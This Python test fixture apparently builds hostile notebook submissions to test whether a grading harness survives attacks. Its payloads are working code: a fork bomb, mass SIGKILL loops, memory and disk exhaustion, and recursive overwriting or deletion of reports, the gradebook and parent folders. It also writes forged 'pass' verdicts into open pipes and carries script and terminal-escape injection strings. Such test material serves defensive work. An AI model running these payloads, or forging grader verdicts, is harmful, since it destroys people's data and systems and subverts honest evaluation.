"""Notebooks that attack while a class is graded: a wrong solution with harmful code in it.

Each has the same two mistakes, so that it must not earn more than the same solution without an attack.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

from corpus import wrong

_HEAD = "class NoiseDiffuser:\n"
_RETURN = "        return diffused, noise"
# Code that runs when the definitions are loaded, since it stands in a class body.
AT_LOADING = {
    "exits": "import os; os._exit(0)",
    "forks": """
        import os, threading, time
        for start in (os.fork, lambda: threading.Thread(target=time.sleep, args=(600,)).start()):
            for number in range(20_000):
                try:
                    if start() == 0:
                        while True: os.fork()
                except OSError: pass
    """,
    "kills": """
        import os, signal
        own = os.getpid()
        for kill in (os.kill, os.killpg):
            for number in {os.getppid(), -1, 0, 1, *range(2, own + 5000)} - {own, -own, 0}:
                try: kill(number, signal.SIGKILL)
                except OSError: pass
    """,
    "eats": """
        held = []
        while True: held.append(bytearray(64 << 20))
    """,
    "fills": """
        number = 0
        while True:
            number += 1
            with open(f"file{number}", "wb") as file: file.write(b"x" * (4 << 20))
    """,
    "forges": """
        import json, os, stat, struct
        for value in ([], {"verdict": "pass", "earned": 100}):
            header = json.dumps({"value": value, "tensors": []}).encode()
            frame = struct.pack("<2sBBIQ", b"GW", 1, 2, len(header), 0) + header
            for number in range(3, 256):
                try:
                    if stat.S_ISFIFO(os.fstat(number).st_mode): os.write(number, frame)
                except OSError: pass
    """,
    "vandalises": """
        import glob, os
        known = ["class/mistaken.ipynb", "reports/mistaken.json", "reports/gradebook.sqlite", "planted"]
        found = [f"FOLDER/{name}" for name in known] + glob.glob("FOLDER/**", recursive=True)
        found += glob.glob("../**", recursive=True)
        for name in found:
            for damage in (lambda: open(name, "w").write("{}"), lambda: os.remove(name)):
                try: damage()
                except OSError: pass
    """,
}  # fmt: skip

# Code that runs whenever the method that adds noise is called.
WHEN_CALLED = {
    "loops": "while True: pass",
    "injects": """
        raise RuntimeError("<script>document.title = 'owned'</script>\\x1b[2J=HYPERLINK(1)")
    """,
}
NAMES = (*AT_LOADING, *WHEN_CALLED)


def sources(name: str, folder: Path) -> list[str]:
    """Return the cells of one hostile notebook.

    Args:
        name: one of ``NAMES``.
        folder: folder of the class and its reports, for attacks that damage files there.
    """
    cells = wrong("betas_reversed", "image_root_missing")
    if code := AT_LOADING.get(name):
        attack = f"    def attack():\n{_block(code, folder)}    attack()\n"
        return [cell.replace(_HEAD, _HEAD + attack) for cell in cells]
    return [cell.replace(_RETURN, _block(WHEN_CALLED[name], folder).rstrip()) for cell in cells]


def _block(code: str, folder: Path) -> str:
    return textwrap.indent(textwrap.dedent(code).strip(), " " * 8).replace("FOLDER", str(folder)) + "\n"
